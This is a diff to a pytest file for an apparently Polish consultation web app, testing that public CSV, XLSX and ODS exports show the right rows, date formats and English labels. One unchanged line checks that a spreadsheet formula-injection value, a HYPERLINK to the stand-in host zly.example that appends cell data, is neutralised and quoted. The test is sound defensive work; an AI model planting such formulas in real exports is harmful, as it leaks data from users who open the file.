@@ -23,7 +23,7 @@ SECRET = "Projekt stanowiska jednostki Y – jeszcze nie do wiadomości publiczn
 
 
 def _rows(fmt: str, body: bytes) -> list[list[str]]:
-    """The file's rows as text (dates as YYYY-MM-DD), header first."""
+    """The file's rows as text (date cells of XLSX and ODS as YYYY-MM-DD), header first."""
     if fmt == "csv":
         assert body.startswith(b"\xef\xbb\xbf"), "CSV must start with the UTF-8 byte order mark for Excel"
         return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
@@ -95,7 +95,8 @@ def test_public_download_holds_what_the_filtered_screen_lists(client, exported_w
     assert row["Treść postulatu"] == "B, opublikowany przez X"
     assert row["Komórka merytoryczna"] == "Wydział Polityki Społecznej, Równości i Zdrowia"
     assert (row["Rodzaj stanowiska"], row["Treść stanowiska"]) == ("nieprzyjęty", "Nie przyjmujemy.")
-    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["Data publikacji"])
+    # a date cell in XLSX and ODS; CSV has none, so the text the Polish pages show
+    assert re.fullmatch(r"\d{2}\.\d{2}\.\d{4}" if fmt == "csv" else r"\d{4}-\d{2}-\d{2}", row["Data publikacji"])
     assert not any(SECRET in cell for r in rows for cell in r)
 
 
@@ -141,3 +142,26 @@ def test_csv_quotes_and_keeps_polish_letters(client, exported_world):
     text = body.decode("utf-8-sig")
     assert "Treść postulatu" in text and "Zgłaszający" in text
     assert '"\'=HYPERLINK(""http://zly.example/?x=""&A1;""Kliknij"")"' in text  # quotes doubled, cell quoted
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
+def test_an_english_download_writes_dates_in_english_text_and_keeps_date_cells(client, exported_world, fmt):
+    from babel.dates import format_date
+
+    from tests.test_i18n import _published_meeting_postulate
+
+    w = exported_world
+    postulate = _published_meeting_postulate(w)
+    client.post("/jezyk/en", data={})
+    rows = _rows(fmt, client.get(f"/postulaty/eksport.{fmt}").data)
+    row = dict(zip(rows[0], next(r for r in rows if r[0] == postulate.reference)))
+    day = format_date(w.meeting.date, "d MMM yyyy", locale="en")
+    assert row["Meeting"] == f"Spotkanie branżowe ({day}), No. 1"
+    published = db.session.get(type(postulate), postulate.id).positions[0].published_at
+    from consult.core.types import to_warsaw
+
+    published_on = to_warsaw(published).date()
+    if fmt == "csv":  # text: as the English pages write it
+        assert row["Publication date"] == format_date(published_on, "d MMM yyyy", locale="en")
+    else:  # a real date cell, which the spreadsheet shows in its own way
+        assert row["Publication date"] == published_on.isoformat()
